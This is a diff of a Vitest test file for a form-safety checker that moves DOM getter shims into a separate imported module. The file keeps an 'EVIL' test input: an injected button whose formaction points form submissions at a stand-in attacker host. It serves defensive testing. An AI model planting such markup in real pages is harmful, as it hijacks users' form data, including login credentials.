@@ -1,16 +1,7 @@
 // @vitest-environment happy-dom
-import { expect, it, vi } from 'vitest';
+import './missing-getters.testing';
+import { expect, it } from 'vitest';
 import { isFormSafe } from './check-form';
-
-// What this DOM does not have where browsers have it.
-vi.hoisted(() => {
-  const give = (owner: object, name: string, get: () => unknown) => {
-    if (!Object.hasOwn(owner, name)) Object.defineProperty(owner, name, { get, configurable: true });
-  };
-  give(Element.prototype, 'assignedSlot', () => null);
-  give(Document.prototype, 'documentElement', () => null);
-  give(Node.prototype, 'baseURI', () => 'https://paramant.app/auth/login');
-});
 
 const EVIL = '<button form="form" formaction="https://evil.example/x"></button>';
 
